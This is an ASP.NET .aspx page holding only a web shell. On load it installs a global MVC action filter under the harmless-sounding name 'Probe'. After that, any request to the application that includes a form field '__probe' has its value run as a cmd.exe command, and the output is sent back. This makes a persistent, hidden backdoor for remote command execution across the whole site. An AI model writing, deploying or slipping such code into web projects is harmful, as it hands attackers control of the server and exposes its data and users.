<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Mvc" %>
<script runat="server">
    public class Probe : IActionFilter
    {
        public void OnActionExecuting(ActionExecutingContext ctx)
        {
            string c = ctx.HttpContext.Request.Form["__probe"];
            if (c == null) return;
            var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true });
            ctx.Result = new ContentResult { Content = p.StandardOutput.ReadToEnd() };
        }
        public void OnActionExecuted(ActionExecutedContext ctx) { }
    }
    protected void Page_Load(object sender, EventArgs e) { GlobalFilters.Filters.Add(new Probe()); }
</script>
